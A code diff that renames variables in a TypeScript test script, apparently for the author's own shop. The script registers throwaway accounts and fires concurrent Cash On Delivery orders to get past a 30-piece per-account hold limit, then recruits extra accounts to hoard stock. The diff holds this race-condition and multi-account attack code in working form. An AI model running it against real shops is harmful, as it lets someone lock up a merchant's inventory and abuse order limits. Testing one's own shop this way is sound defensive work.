@@ -19,16 +19,22 @@ export const attack: Attack = {
   ownShop: true,
   rule: 'A new account holds at most 30 pieces by Cash On Delivery, however it orders.',
   async run(target) {
-    const shelf = await shelfOf(target)
-    target.say(`${shelf.reduce((sum, { available }) => sum + available, 0)} pieces are on sale`)
+    const products = await shelfOf(target)
+    target.say(`${products.reduce((sum, { available }) => sum + available, 0)} pieces are on sale`)
     const thief = await newThief(target)
-    const wishes = [...bigWishes(shelf), ...smallWishes(shelf)]
+    const wishes = [...bigWishes(products), ...smallWishes(products)]
     const { statuses, ms } = await ordersAtOnce(target, thief, wishes)
     target.say(`${wishes.length} orders at once: ${JSON.stringify(statuses)}`)
     const alone = await heldPieces(target)
-    const others = await thieves(target, accounts - 1)
-    for (const other of others) await ordersAtOnce(target, other, smallWishes(shelf))
-    return figuresOf({ alone, ms, crowd: await heldPieces(target), accounts: others.length + 1 })
+    const accomplices = await thieves(target, accounts - 1)
+    for (const accomplice of accomplices)
+      await ordersAtOnce(target, accomplice, smallWishes(products))
+    return figuresOf({
+      alone,
+      ms,
+      crowd: await heldPieces(target),
+      accounts: accomplices.length + 1,
+    })
   },
 }
 
@@ -56,24 +62,24 @@ async function shelfOf({ url }: Target): Promise<Line[]> {
     const answer = await fetch(`${url}/api/get-product?page=${page}&limit=${mostLines}`)
     const { products } = (await answer.json()) as { products: { _id: string }[] }
     if (products.length === 0) break
-    const wanted = products.map(({ _id }) => ({ productId: _id, quantity: mostPieces }))
-    const quote = await post(`${url}/api/quote`, { body: { products: wanted } })
+    const wishes = products.map(({ _id }) => ({ productId: _id, quantity: mostPieces }))
+    const quote = await post(`${url}/api/quote`, { body: { products: wishes } })
     lines.push(...((await quote.json()) as { lines: Line[] }).lines)
   }
   return lines.filter(({ available }) => available > 0)
 }
 
 /** All that is on sale, in 19 orders. */
-function bigWishes(shelf: Line[]): Wish[] {
-  const size = Math.min(mostLines, Math.ceil(shelf.length / bigOrders))
-  return Array.from({ length: bigOrders }, (_, at) => shelf.slice(at * size, (at + 1) * size))
+function bigWishes(products: Line[]): Wish[] {
+  const size = Math.min(mostLines, Math.ceil(products.length / bigOrders))
+  return Array.from({ length: bigOrders }, (_, at) => products.slice(at * size, (at + 1) * size))
     .filter((lines) => lines.length > 0)
     .map((lines) => ({ lines, quantity: mostPieces }))
 }
 
 /** What fits below every limit, so that only their sum is too much. */
-function smallWishes(shelf: Line[]): Wish[] {
-  const cheap = shelf.toSorted((a, b) => a.price - b.price)
+function smallWishes(products: Line[]): Wish[] {
+  const cheap = products.toSorted((a, b) => a.price - b.price)
   return [...Array(20).keys()].map((at) => ({
     lines: cheap.slice(at, at + 1),
     quantity: 10 - (at % 4),
@@ -81,11 +87,11 @@ function smallWishes(shelf: Line[]): Wish[] {
 }
 
 async function ordersAtOnce(target: Target, thief: Thief, wishes: Wish[]) {
-  const began = performance.now()
+  const startedAt = performance.now()
   const statuses = await Promise.all(wishes.map((wish) => order(target, thief, wish)))
   const counts: Record<number, number> = {}
   for (const status of statuses) counts[status] = (counts[status] ?? 0) + 1
-  return { statuses: counts, ms: performance.now() - began }
+  return { statuses: counts, ms: performance.now() - startedAt }
 }
 
 async function order({ url }: Target, thief: Thief, { lines, quantity }: Wish): Promise<number> {
@@ -117,23 +123,23 @@ async function order({ url }: Target, thief: Thief, { lines, quantity }: Wish): 
 }
 
 /** As many as the limit of registrations lets through. */
-async function thieves(target: Target, wanted: number): Promise<Thief[]> {
-  const made: Thief[] = []
-  for (let at = 0; at < wanted; at++) {
+async function thieves(target: Target, count: number): Promise<Thief[]> {
+  const accountsMade: Thief[] = []
+  for (let at = 0; at < count; at++) {
     const thief = await newThief(target).catch((error: Error) => target.say(error.message))
     if (!thief) break
-    made.push(thief)
+    accountsMade.push(thief)
   }
-  return made
+  return accountsMade
 }
 
 async function newThief({ url }: Target): Promise<Thief> {
   const [email, password] = [`${randomUUID()}@nadi.example`, `${randomUUID()} of a thief`]
   const body = { name: 'Somebody', email, password }
-  const registered = await post(`${url}/api/signup`, { body })
-  if (!registered.ok) throw new Error(`a registration was answered ${registered.status}`)
-  const entered = await post(`${url}/api/log-in`, { body: { email, password } })
-  const cookie = entered.headers
+  const signUp = await post(`${url}/api/signup`, { body })
+  if (!signUp.ok) throw new Error(`a registration was answered ${signUp.status}`)
+  const logIn = await post(`${url}/api/log-in`, { body: { email, password } })
+  const cookie = logIn.headers
     .getSetCookie()
     .map((text) => text.split(';')[0])
     .join('; ')
